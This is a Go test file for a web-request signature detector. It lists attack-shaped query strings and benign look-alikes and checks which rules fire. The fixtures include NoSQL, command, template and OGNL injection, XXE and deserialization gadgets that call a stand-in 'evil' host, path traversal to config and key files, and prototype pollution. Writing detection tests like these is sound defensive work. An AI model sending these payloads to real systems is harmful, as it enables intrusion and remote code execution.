package patterns

import "testing"

// TestSigS17Structure: issue 8 items 2 and 4 by grammar rather than by
// corpus entry. Each attack shape is written in a form the payload corpus
// does not hold, and each look-alike is what an ordinary client sends with
// the same bytes.
func TestSigS17Structure(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		// NoSQL operators in the dotted form (qs allowDots, body-parser's
		// extended mode): read as the bracket form
		{"GET", "/login", "username.$ne=1&password.$ne=1", "", 200, "nosqli-operator", true},
		{"GET", "/api/items", "q.$regex=.*", "", 200, "nosqli-operator", true},
		{"GET", "/api/items", "user%2E%24ne=x", "", 200, "nosqli-operator", true},
		{"GET", "/api/items", "id.$where=1", "", 200, "nosqli-operator", true},
		{"GET", "/api/items", "a.b=1&sort.price=asc", "", 200, "nosqli-operator", false},
		{"GET", "/api/items", "filters.price.$gt=10", "", 200, "nosqli-operator", false},
		{"GET", "/api/items", "a.$=1", "", 200, "nosqli-operator", false},
		{"GET", "/api/items", "price=$5.99&total.$=2", "", 200, "nosqli-operator", false},
		// XXE: the '!' written as a character reference too, and a UTF-7
		// DOCTYPE whose '[' opens a longer base64 run
		{"GET", "/api", "xml=%26lt%3B%26%2333%3BENTITY+x+SYSTEM+%22http%3A%2F%2Fevil%2Fx%22%26gt%3B", "", 200, "xxe-entity", true},
		{"GET", "/api", "xml=%26%23x3c%3B%26%23x21%3BENTITY+x+SYSTEM+%22http%3A%2F%2Fevil%22%26%23x3e%3B", "", 200, "xxe-entity", true},
		{"GET", "/api", "xml=%26%2360%3B%26%2333%3BDOCTYPE+r+%5B%5D%26%2362%3B", "", 200, "xxe-entity", true},
		{"GET", "/api", "data=%2BADwAIQ-DOCTYPE+r+%2BAFsAPAAh-ENTITY+x+SYSTEM+%2BACI-http%3A%2F%2Fevil%2Fx%2BACI-%2BAD4AXQA%2B-", "", 200, "xxe-entity", true},
		// an escaped bang before a word that declares nothing, or an
		// escaped doctype without a subset, is text
		{"GET", "/search", "q=%26lt%3B%26%2333%3BENTITY+xml", "", 200, "xxe-entity", false},
		{"GET", "/search", "q=%26lt%3B%26%2333%3BDOCTYPE+html%26gt%3B", "", 200, "xxe-entity", false},
		{"GET", "/search", "q=%2BADwAIQ-DOCTYPE+html%2BAD4-", "", 200, "xxe-entity", false},

		// a ../ into a product's internals, named by the file's kind
		{"GET", "/bin/ssx/Main/WebHome", "resource=../../WEB-INF/xwiki.cfg&minify=false", "", 200, "traversal-app-file", true},
		{"GET", "/index/download/index", "name=x&url=../../application/database.php", "", 200, "traversal-app-file", true},
		{"GET", "/toolbox-resource/../serverconfig.xml", "", "", 404, "traversal-app-file", true},
		{"GET", "/assets/../package.json", "", "", 404, "traversal-app-file", true},
		{"GET", "/download", "file=..%2Fconfig%2Fsettings.yml", "", 200, "traversal-app-file", true},
		{"GET", "/static/..;/conf/app.properties", "", "", 404, "traversal-app-file", true},
		{"GET", "/x", "f=..\\..\\App_Data\\users.db", "", 200, "traversal-app-file", true},
		{"GET", "/x", "f=../certs/server.key", "", 200, "traversal-app-file", true},
		// relative links, assets and pages whose names only contain the words
		{"GET", "/css/../img/logo.png", "", "", 404, "traversal-app-file", false},
		{"GET", "/docs/guide.html", "back=../index.html", "", 200, "traversal-app-file", false},
		{"GET", "/a/../conference-2024.xml", "", "", 404, "traversal-app-file", false},
		{"GET", "/blog/../feed.xml", "", "", 404, "traversal-app-file", false},
		{"GET", "/docs/config.json", "", "", 200, "traversal-app-file", false},
		{"GET", "/download", "file=settings.yml", "", 200, "traversal-app-file", false},
		{"GET", "/search", "q=..+config.ini+tutorial", "", 200, "traversal-app-file", false},
		{"GET", "/docs/../configuration-guide.html", "", "", 404, "traversal-app-file", false},

		// a weak command wrapped in a string breakout
		{"GET", "/cgi-bin/login.cgi", "username=admin%27%3Becho+x%3B%27", "", 200, "cmdi-shell-command", true},
		{"GET", "/ping", "host=x%22%3Bping+-c+1+y%3B%23", "", 200, "cmdi-shell-command", true},
		{"GET", "/q", "ip=1.2.3.4%27%3Bsleep+5%3B%27", "", 200, "cmdi-shell-command", true},
		{"GET", "/search", "q=he+said+%22stop%22%3B+type+the+code+again", "", 200, "cmdi-shell-command", false},
		{"GET", "/search", "q=%27hello%27%3B+echo+the+answer", "", 200, "cmdi-shell-command", false},
		{"GET", "/comment", "text=It%27s+fine%3B+find+me+later%3B+ok", "", 200, "cmdi-shell-command", false},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
		}
	}
}

// TestSigS17EscapedTemplateTag: an ERB/ASP/JSP arithmetic probe whose
// brackets are character references counts as the plain one does; the
// escaped tag around words, or a percentage in escaped text, does not.
func TestSigS17EscapedTemplateTag(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		{"GET", "/api", "data=%26lt%3B%25%3D+7*7+%25%26gt%3B", "", 200, "ssti-expression", true},
		{"GET", "/api", "xml=%26%2360%3B%25%3D1337*1337%25%26%2362%3B", "", 200, "ssti-expression", true},
		{"GET", "/api", "xml=%26%23x3c%3B%25+7%2B7+%25%26%23x3e%3B", "", 200, "ssti-expression", true},
		{"GET", "/search", "q=%26lt%3B%25%3D+name+%25%26gt%3B", "", 200, "ssti-expression", false},
		{"GET", "/search", "q=%26lt%3B%25+Tnn96+%25%26gt%3B", "", 200, "ssti-expression", false},
		{"GET", "/comment", "text=growth+%26lt%3B+5%25+vs+10%25+%26gt%3B+3%25", "", 200, "ssti-expression", false},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
		}
	}
}

// TestSigS17ExploitParameters: request shapes an exploit needs whatever
// the product: a serializer's type tag naming a class, prototype
// pollution through a parameter's name, a PHP magic method as the method
// to dispatch, Struts' %{(#...)} OGNL; and what ordinary clients send
// with the same words.
func TestSigS17ExploitParameters(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		{"GET", "/app", `x={"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/x","autoCommit":true}`, "", 200, "deserialization-type-tag", true},
		{"GET", "/app", `x={"@type":"Lcom.sun.rowset.JdbcRowSetImpl;"}`, "", 200, "deserialization-type-tag", true},
		{"GET", "/app", `x=["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://evil/x"}]`, "", 200, "deserialization-type-tag", true},
		{"GET", "/app", "x=!!javax.script.ScriptEngineManager+[!!java.net.URLClassLoader+[[!!java.net.URL+[%22http://evil/%22]]]]", "", 200, "deserialization-type-tag", true},
		{"GET", "/app", "x=!!python/object/apply:os.system+[%22id%22]", "", 200, "deserialization-type-tag", true},
		{"GET", "/api", `data={"@context":"https://schema.org","@type":"Product","name":"x"}`, "", 200, "deserialization-type-tag", false},
		{"GET", "/api", `data={"@type":"https://schema.org/Product"}`, "", 200, "deserialization-type-tag", false},
		{"GET", "/api", "yaml=a:+!!str+1&b=x:+!!map+{a:+1}", "", 200, "deserialization-type-tag", false},
		{"GET", "/api", `tags=["com.example","org.example"]`, "", 200, "deserialization-type-tag", false},

		{"GET", "/", "__proto__[isAdmin]=true", "", 200, "prototype-pollution-param", true},
		{"GET", "/api", "constructor[prototype][isAdmin]=true", "", 200, "prototype-pollution-param", true},
		{"GET", "/api", "a[__proto__][b]=1", "", 200, "prototype-pollution-param", true},
		{"GET", "/api", "__proto__.polluted=1", "", 200, "prototype-pollution-param", true},
		{"GET", "/api", `data={"__proto__":{"isAdmin":true}}`, "", 200, "prototype-pollution-param", true},
		{"GET", "/api", `data={"constructor":{"prototype":{"x":1}}}`, "", 200, "prototype-pollution-param", true},
		{"GET", "/search", "q=__proto__+pollution+lodash", "", 200, "prototype-pollution-param", false},
		{"GET", "/search", "q=what+is+constructor.prototype", "", 200, "prototype-pollution-param", false},
		{"GET", "/api", "sort=prototype&constructor=lego", "", 200, "prototype-pollution-param", false},

		{"GET", "/index.php", "s=captcha&_method=__construct&filter[]=system&method=get", "", 200, "php-magic-method-call", true},
		{"GET", "/index.php", "action=__destruct", "", 200, "php-magic-method-call", true},
		{"GET", "/search", "q=__construct", "", 200, "php-magic-method-call", false},
		{"GET", "/x", "method=get&action=list", "", 200, "php-magic-method-call", false},
		{"GET", "/docs", "action=view&page=__construct", "", 200, "php-magic-method-call", false},

		{"GET", "/index.action", "x=%25{(%23_='multipart/form-data')}", "", 200, "ognl-injection", true},
		{"GET", "/api", "fmt=%25{time}s+%25{remote}h", "", 200, "ognl-injection", false},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
		}
	}
}

// TestSigS17WhereFieldBreakout: a $where string broken out of at the
// value's start to test a field of the document, and text that only
// shares the words.
func TestSigS17WhereFieldBreakout(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, c := range []s12Case{
		{"GET", "/login", "username=admin%27+%26%26+this.password%2500", "", 200, "nosqli-operator", true},
		{"GET", "/search", "q=admin%27+%26%26+this.passwordzz", "", 200, "nosqli-operator", true},
		{"GET", "/search", "q=x%22||!this.role", "", 200, "nosqli-operator", true},
		{"GET", "/search", "q=it%27s+%26%26+this.value", "", 200, "nosqli-operator", false},
		{"GET", "/search", "q=js+this.password", "", 200, "nosqli-operator", false},
		{"GET", "/search", "q=%27a%27+||+this.x", "", 200, "nosqli-operator", false},
	} {
		if got := s12Fires(t, m, c); got != c.want {
			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
		}
	}
}
